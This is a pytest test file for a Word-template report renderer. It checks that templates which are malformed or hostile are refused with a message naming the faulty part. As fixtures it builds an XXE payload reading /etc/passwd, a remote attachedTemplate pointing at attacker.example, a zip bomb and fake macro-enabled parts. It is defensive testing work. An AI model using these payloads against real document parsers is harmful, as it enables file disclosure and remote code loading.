"""Broken template files: render and template check each refuse them with a message naming the part.

Never a traceback, never a document nothing can open: a file that is not a
zip archive, a part that is not XML, a UTF-16 or GBK part, a document type
(XXE), a zip bomb, a missing part, a macro-enabled document, a template
for the other edition, a template whose rendered part is not XML.
"""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import docx
import pytest

import govreport
from govreport import _archive
from govreport.cli import main
from govreport.errors import TemplateError
from govreport.model import Report
from govreport.rendering import bundled_template, check_template
from govreport.spec import Edition
from support import EXAMPLES, minimal_template

_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_BODY = f'<w:document xmlns:w="{_W}"><w:body><w:p><w:r><w:t>{{{{ report.agency }}}}</w:t></w:r></w:p></w:body></w:document>'


def _rebuild(
    data: bytes,
    replace: dict[str, bytes] | None = None,
    drop: frozenset[str] = frozenset(),
) -> bytes:
    """``data`` with some parts replaced, added or dropped."""
    replace = dict(replace or {})
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as src,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z,
    ):
        for info in src.infolist():
            if info.filename in drop:
                continue
            z.writestr(info.filename, replace.pop(info.filename, src.read(info)))
        for name, blob in replace.items():
            z.writestr(name, blob)
    return out.getvalue()


def _base() -> bytes:
    return minimal_template("{{ report.agency }}")


_DOCTYPE = b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY e SYSTEM "file:///etc/passwd">]><d>&e;</d>'

#: (case, the template's bytes, the refusal after "<bytes>: ")
BROKEN = [
    ("not-a-zip", b"this is not a zip", "不是有效的 Word 文档（.docx 应为 zip 压缩包）"),
    ("empty", b"", "不是有效的 Word 文档（.docx 应为 zip 压缩包）"),
    (
        "utf-16",
        _rebuild(_base(), {"word/document.xml": _BODY.encode("utf-16")}),
        "word/document.xml 是 UTF-16 编码：Word 文档的部件须为 UTF-8（在 Word 中另存一次即可）",
    ),
    (
        "utf-16-no-bom",
        _rebuild(
            _base(), {"word/document.xml": ('<?xml version="1.0"?>' + _BODY).encode("utf-16-le")}
        ),
        "word/document.xml 是 UTF-16 编码：Word 文档的部件须为 UTF-8（在 Word 中另存一次即可）",
    ),
    (
        "gbk",
        _rebuild(
            _base(), {"word/document.xml": _BODY.replace("report.agency", "机关").encode("gbk")}
        ),
        f"word/document.xml 第 {_BODY.index('report.agency') + 1} 字节：不是 UTF-8 编码（Word 文档的部件须为 UTF-8）",
    ),
    (
        "xxe-body",
        _rebuild(_base(), {"word/document.xml": _DOCTYPE}),
        "word/document.xml 含有文档类型声明（DOCTYPE，可引用外部实体），拒绝读取",
    ),
    (
        "xxe-styles",
        _rebuild(bundled_template(2021), {"word/styles.xml": _DOCTYPE}),
        "word/styles.xml 含有文档类型声明（DOCTYPE，可引用外部实体），拒绝读取",
    ),
    (
        "xxe-rels",
        _rebuild(_base(), {"_rels/.rels": _DOCTYPE}),
        "_rels/.rels 含有文档类型声明（DOCTYPE，可引用外部实体），拒绝读取",
    ),
    (
        "missing-content-types",
        _rebuild(_base(), drop=frozenset({"[Content_Types].xml"})),
        "缺少 [Content_Types].xml，不是 Word 文档",
    ),
    (
        "missing-document",
        _rebuild(_base(), drop=frozenset({"word/document.xml"})),
        "缺少 word/document.xml，不是 Word 文档",
    ),
]


def _content_types(main_type: str) -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/word/document.xml" ContentType="{main_type}"/>'
        "</Types>"
    ).encode()


_MACROS = "模板含有宏（.docm/.dotm，启用宏的文档）：请在 Word 中另存为 .docx 后再用 (macro-enabled templates are refused)"
BROKEN.append(
    (
        "docm",
        _rebuild(
            _base(),
            {
                "[Content_Types].xml": _content_types(
                    "application/vnd.ms-word.document.macroEnabled.main+xml"
                ),
                "word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macros",
            },
        ),
        _MACROS,
    )
)
BROKEN.append(
    (
        "dotm",
        _rebuild(
            _base(),
            {
                "[Content_Types].xml": _content_types(
                    "application/vnd.ms-word.template.macroEnabledTemplate.main+xml"
                )
            },
        ),
        _MACROS,
    )
)
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_SETTINGS_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    f'<Relationship Id="rId1" Type="{_REL}/attachedTemplate" Target="https://attacker.example/t.dotm"'
    ' TargetMode="External"/></Relationships>'
).encode()
BROKEN.append(
    (
        "remote-template",
        _rebuild(_base(), {"word/_rels/settings.xml.rels": _SETTINGS_RELS}),
        "word/_rels/settings.xml.rels 引用外部资源 https://attacker.example/t.dotm（attachedTemplate）："
        "Word 打开生成的文档时会去取它，拒绝 (external resources are refused)",
    )
)
_IDS = [b[0] for b in BROKEN]


@pytest.mark.parametrize(("case", "data", "reason"), BROKEN, ids=_IDS)
def test_render_refuses_a_broken_template_naming_the_part(
    case: str, data: bytes, reason: str
) -> None:
    """Preparing the template raises TemplateError with the file and the part."""
    with pytest.raises(TemplateError) as info:
        govreport.Template(data)
    assert str(info.value) == f"<bytes>: {reason}"
    assert info.value.template == "<bytes>"


@pytest.mark.parametrize(("case", "data", "reason"), BROKEN, ids=_IDS)
def test_template_check_refuses_a_broken_template_naming_the_part(
    case: str, data: bytes, reason: str
) -> None:
    """check_template raises the same error as render."""
    with pytest.raises(TemplateError) as info:
        check_template(data, edition=2021)
    assert str(info.value) == f"<bytes>: {reason}"


@pytest.mark.parametrize(("case", "data", "reason"), BROKEN, ids=_IDS)
def test_the_commands_refuse_a_broken_template_in_one_line(
    case: str, data: bytes, reason: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """`template check` and `render --template` each print one line naming the file and part, and exit 2."""
    template = tmp_path / "t.docx"
    template.write_bytes(data)
    assert main(["template", "check", str(template)]) == 2
    assert capsys.readouterr().err == f"govreport template: {template}: {reason}\n"
    out = tmp_path / "r.docx"
    example = EXAMPLES / "demo-city-data-bureau-2024.yaml"
    assert main(["render", str(example), "-o", str(out), "--template", str(template)]) == 2
    assert capsys.readouterr().err == f"govreport render: {template}: {reason}\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["t.docx"]


def test_a_part_that_is_not_xml_is_refused_with_its_line_and_column() -> None:
    """A document.xml cut short is refused at preparation, naming the part and lxml's line and column."""
    data = _rebuild(_base(), {"word/document.xml": _BODY[:-30].encode()})
    for attempt in (lambda: govreport.Template(data), lambda: check_template(data, edition=2021)):
        with pytest.raises(TemplateError) as info:
            attempt()
        assert str(info.value).startswith("<bytes>: word/document.xml 不是有效的 XML：")
        assert "line 1, column" in str(info.value)


def test_a_zip_bomb_is_refused_before_it_is_inflated() -> None:
    """A part compressed far beyond any Word document (here 40 MB of spaces) is refused by its ratio."""
    bomb = _BODY.replace("<w:body>", "<w:body>" + " " * 40 * 2**20).encode()
    data = _rebuild(_base(), {"word/document.xml": bomb})
    info = next(
        i for i in zipfile.ZipFile(io.BytesIO(data)).infolist() if i.filename == "word/document.xml"
    )
    ratio = info.file_size // info.compress_size
    reason = f"word/document.xml 的压缩比 {ratio}:1 超过上限 200:1（疑为压缩炸弹）"
    with pytest.raises(TemplateError) as e:
        govreport.Template(data)
    assert str(e.value) == f"<bytes>: {reason}"
    with pytest.raises(TemplateError) as e:
        check_template(data)
    assert str(e.value) == f"<bytes>: {reason}"


def test_a_part_is_read_no_further_than_its_bound() -> None:
    """The shared bounded reader stops at the part limit whatever the archive claims."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("word/document.xml", bytes(range(256)) * 8)
    archive = zipfile.ZipFile(buf)
    with pytest.raises(TemplateError) as info:
        _archive.read_member(archive, "word/document.xml", fail=TemplateError, max_part_bytes=1000)
    assert str(info.value) == "word/document.xml 解压后 2048 字节，超过上限 1000 字节"
    with pytest.raises(TemplateError) as info:
        _archive.open_zip(buf, fail=TemplateError, max_total_bytes=100)
    assert str(info.value) == "压缩包解压后共 2048 字节，超过上限 100 字节"
    with pytest.raises(TemplateError) as info:
        _archive.open_zip(buf, fail=TemplateError, max_members=0)
    assert str(info.value) == "压缩包列有 1 个成员，超过上限 0"


def test_a_template_file_over_the_size_bound_is_not_read(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A template file larger than MAX_TEMPLATE_BYTES is refused before it is read whole."""
    from govreport.rendering import _template

    monkeypatch.setattr(_template, "MAX_TEMPLATE_BYTES", 100)
    path = tmp_path / "t.docx"
    path.write_bytes(_base())
    with pytest.raises(TemplateError) as info:
        govreport.Template(path)
    assert str(info.value) == f"{path}: 模板文件超过上限 100 字节"
    with pytest.raises(TemplateError) as info:
        check_template(path)
    assert str(info.value) == f"{path}: 模板文件超过上限 100 字节"


def test_a_directory_is_not_a_template(tmp_path: Path) -> None:
    """A path that cannot be read names itself and the system's reason."""
    with pytest.raises(TemplateError) as info:
        govreport.Template(tmp_path)
    assert str(info.value) == f"{tmp_path}: 无法读取模板：Is a directory"


def test_an_external_hyperlink_is_kept(tmp_path: Path) -> None:
    """A hyperlink to a web page is only followed when clicked: the template is used as it is."""
    rels = _SETTINGS_RELS.replace(b"attachedTemplate", b"hyperlink")
    data = _rebuild(_base(), {"word/_rels/document.xml.rels": rels})
    out = govreport.Template(data).render(Report.new("某局", 2024), tmp_path / "r.docx")
    assert zipfile.ZipFile(out).read("word/_rels/document.xml.rels") == rels


def test_a_dotx_renders_as_a_document(tmp_path: Path) -> None:
    """A Word template (.dotx) is used as the document it creates: the output declares a document."""
    dotx = _rebuild(
        _base(),
        {
            "[Content_Types].xml": _content_types(
                "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"
            )
        },
    )
    assert check_template(dotx, edition=2021) == []
    out = govreport.Template(dotx).render(Report.new("某局", 2024), tmp_path / "r.docx")
    types = zipfile.ZipFile(out).read("[Content_Types].xml").decode()
    assert "wordprocessingml.document.main+xml" in types
    assert "template.main+xml" not in types
    assert [p.text for p in docx.Document(str(out)).paragraphs] == ["某局"]


def test_a_template_for_the_other_edition_is_refused() -> None:
    """A template naming rows only one edition has is refused for a report of the other edition."""
    with pytest.raises(TemplateError) as info:
        govreport.Template(bundled_template(2019)).render_bytes(Report.new("某局", 2024))
    assert str(info.value) == (
        "<bytes>: 模板是 2019 版的（用到只有 2019 版才有的行 other_external_management_services），"
        "报告是 2021 版的 (the template is for the other edition)"
    )
    with pytest.raises(TemplateError) as info:
        govreport.Template(edition=2021).render_bytes(Report.new("某局", 2020, Edition.V2019))
    assert str(info.value) == (
        "report-2021.docx: 模板是 2021 版的（用到只有 2021 版才有的行 other_no_correction），"
        "报告是 2019 版的 (the template is for the other edition)"
    )
    problems = check_template(bundled_template(2019), edition=2021)
    assert [(p.location.where, p.message) for p in problems] == [
        (
            "整个模板",
            "模板是 2019 版的（用到只有 2019 版才有的行 other_external_management_services），"
            "报告是 2021 版的 (the template is for the other edition)",
        )
    ]


def test_a_rendered_part_that_is_not_xml_is_refused() -> None:
    """Markup let through with ``safe`` that breaks the XML is refused: no file nothing can open."""
    t = govreport.Template(minimal_template("{{ '<w:p>' | safe }}"))
    with pytest.raises(TemplateError) as info:
        t.render_bytes(Report.new("某局", 2024))
    message = str(info.value)
    assert message.startswith("<bytes>: 渲染后 word/document.xml 不是有效的 XML：")
    assert message.endswith("：模板的标签破坏了文档结构 (the rendered part is not XML)")
    problems = check_template(minimal_template("{{ '<w:p>' | safe }}"), edition=2021)
    assert len(problems) == 1
    assert problems[0].message.startswith("渲染后 word/document.xml 不是有效的 XML：")
